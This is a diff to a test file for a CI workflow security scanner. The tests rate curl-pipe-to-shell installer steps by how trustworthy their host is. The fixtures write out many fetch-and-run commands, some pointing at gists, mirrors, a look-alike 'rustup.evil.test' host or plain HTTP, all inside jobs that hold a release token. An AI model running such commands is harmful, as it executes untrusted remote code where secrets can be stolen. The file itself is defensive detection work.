@@ -91,7 +91,70 @@ describe(RULE, () => {
             - run: curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash
     `);
     expect(findings.map((f) => f.severity)).toEqual(['LOW', 'LOW', 'LOW', 'LOW', 'LOW']);
-    expect(findings[0]?.description).toContain('LOW: it is the official rustup installer, fetched over HTTPS');
+    expect(findings[0]?.description).toContain("LOW: it is the official rustup installer, served over HTTPS from the vendor's own host `sh.rustup.rs`");
+    expect(findings[0]?.description).toContain('Pinning a version with a committed checksum is the hardening.');
+  });
+
+  it("rates a vendor's bootstrap installer on its own host LOW in a job that holds secrets, found by the table or by its host named after the tool", () => {
+    const job = (script: string, extra = '') =>
+      [
+        'on: push',
+        'permissions:',
+        '  contents: write',
+        ...extra.split('\n').filter((l) => l !== ''),
+        'jobs:',
+        '  release:',
+        '    runs-on: ubuntu-latest',
+        '    env:',
+        '      TOKEN: ${{ secrets.RELEASE_TOKEN }}',
+        '    steps:',
+        `      - run: ${script}`,
+        '',
+      ].join('\n');
+    const rated = (script: string, extra = '') => scanWith(RULE, job(script, extra)).map((f) => f.severity);
+    for (const script of [
+      'curl --proto "=https" -sSf https://sh.rustup.rs | sh -s -- -y',
+      'curl -LsSf https://astral.sh/uv/install.sh | sh',
+      'curl -fsSL https://bun.sh/install | bash',
+      'curl -fsSL https://deno.land/install.sh | sh',
+      'curl -fsSL https://get.pnpm.io/install.sh | sh -',
+      'curl -sSL https://install.python-poetry.org | python3 -',
+      'bash -c "$(wget -O - https://apt.llvm.org/llvm.sh)"',
+      // No table entry: the installer's file names the tool and the host (or repository) is named after it.
+      'curl -fsSL https://get.exampletool.dev/exampletool-install.sh | sh',
+      'curl -fsSL https://raw.githubusercontent.com/acme/widget/HEAD/install-widget.sh | sh',
+    ]) {
+      expect(rated(script), script).toEqual(['LOW']);
+    }
+    // The URL read through the workflow's env, PowerShell's form too.
+    expect(rated('curl -sSf "$INSTALLER" | sh', 'env:\n  INSTALLER: https://sh.rustup.rs')).toEqual(['LOW']);
+    expect(rated('iex ((New-Object Net.WebClient).DownloadString("${env:INSTALLER}"))', 'env:\n  INSTALLER: https://deno.land/install.ps1')).toEqual(['LOW']);
+    expect(rated('curl -sSf "$INSTALLER" | sh', 'env:\n  INSTALLER: https://example.test/install.sh')).toEqual(['MEDIUM']);
+    const text = scanWith(RULE, job('curl -fsSL https://get.exampletool.dev/exampletool-install.sh | sh'))[0]?.description ?? '';
+    expect(text).toContain("official exampletool installer, served over HTTPS from the vendor's own host `get.exampletool.dev`");
+    const repo = scanWith(RULE, job('curl -fsSL https://raw.githubusercontent.com/acme/widget/HEAD/install-widget.sh | sh'))[0]?.description ?? '';
+    expect(repo).toContain("official widget installer, served over HTTPS from the tool's own repository `acme/widget` on GitHub: whoever controls it controls the widget the job then runs");
+  });
+
+  it('negative: an installer from a host that is not the tool\'s vendor stays MEDIUM in a job that holds secrets', () => {
+    const job = (script: string) =>
+      ['on: push', 'permissions:', '  contents: write', 'jobs:', '  release:', '    runs-on: ubuntu-latest', '    env:', '      TOKEN: ${{ secrets.RELEASE_TOKEN }}', '    steps:', `      - run: ${script}`, ''].join('\n');
+    for (const script of [
+      // A gist, someone's repository, a mirror, a CDN: not the tool's own host.
+      'curl -fsSL https://gist.githubusercontent.com/someone/abc123/raw/rustup-init.sh | sh',
+      'curl -fsSL https://raw.githubusercontent.com/someone/dotfiles/main/install-rustup.sh | sh',
+      'curl -fsSL https://mirror.example.org/rustup/rustup-init.sh | sh',
+      'curl -fsSL https://cdn.jsdelivr.net/gh/someone/uv/install-uv.sh | sh',
+      // A host named after the tool, but a file that names no tool, or another tool.
+      'curl -fsSL https://exampletool.dev/install.sh | sh',
+      'curl -fsSL https://exampletool.dev/othertool-install.sh | sh',
+      // A look-alike host: the registered name is `evil`, not `rustup`.
+      'curl -fsSL https://rustup.evil.test/rustup-init.sh | sh',
+    ]) {
+      expect(scanWith(RULE, job(script)).map((f) => f.severity), script).toEqual(['MEDIUM']);
+    }
+    // Over plain HTTP the network decides what arrives, the vendor's host or not.
+    expect(scanWith(RULE, job('curl -fsSL http://win.rustup.rs/rustup-init.sh | sh')).map((f) => f.severity)).toEqual(['HIGH']);
   });
 
   it('keeps plain HTTP and sudo of an arbitrary host HIGH, and an arbitrary HTTPS host MEDIUM', () => {
